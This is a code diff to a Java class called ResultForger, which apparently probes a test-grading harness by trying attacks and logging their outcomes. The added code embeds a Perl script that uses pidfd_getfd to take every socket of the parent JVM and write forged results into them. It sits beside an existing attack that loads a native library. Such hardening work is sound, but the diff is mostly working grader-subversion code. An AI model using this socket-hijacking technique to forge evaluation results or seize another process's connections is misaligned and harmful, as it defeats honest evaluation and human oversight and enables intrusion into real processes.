@@ -27,6 +27,20 @@ final class ResultForger {
 
     private static final List<String> HIDDEN_TESTS = List.of("isZeroAtAGoal", "isTheExactDistanceOfTheClassicStart");
     private static final List<String> OUTCOMES = new ArrayList<>();
+    /** Perl (Debian's perl-base is essential): writes its argument to every socket of its parent JVM. */
+    private static final String STEAL_SOCKETS = String.join("\n",
+            "my $jvm = getppid();",
+            "my $pidfd = syscall(434, $jvm, 0);",
+            "opendir(my $fds, \"/proc/$jvm/fd\") or die;",
+            "for my $fd (readdir $fds) {",
+            "  my $target = readlink(\"/proc/$jvm/fd/$fd\");",
+            "  next unless defined $target && $target =~ /^socket:/;",
+            "  my $mine = syscall(438, $pidfd, $fd + 0, 0);",
+            "  next if $mine < 0;",
+            "  open(my $socket, '>&=', $mine) or next;",
+            "  syswrite($socket, $ARGV[0]);",
+            "  print \"wrote to socket $fd\\n\";",
+            "}");
 
     private ResultForger() {
     }
@@ -101,6 +115,14 @@ final class ResultForger {
         attack("native", () -> {
             System.load(Path.of(ResultForger.class.getResource("/libforger.so").toURI()).toString());
             return "loaded";
+        });
+        attack("process", () -> {
+            // A process of the same user may take the JVM's sockets with pidfd_getfd (Linux 5.6) and write to them.
+            Process perl = new ProcessBuilder("perl", "-e", STEAL_SOCKETS, new String(forged, StandardCharsets.UTF_8))
+                    .redirectErrorStream(true).start();
+            String said = new String(perl.getInputStream().readAllBytes(), StandardCharsets.UTF_8).strip();
+            perl.waitFor();
+            return said.isEmpty() ? "started, took no socket" : said.replace('\n', ' ');
         });
         try {
             Files.write(channel.resolveSibling("attacks.txt"), OUTCOMES);
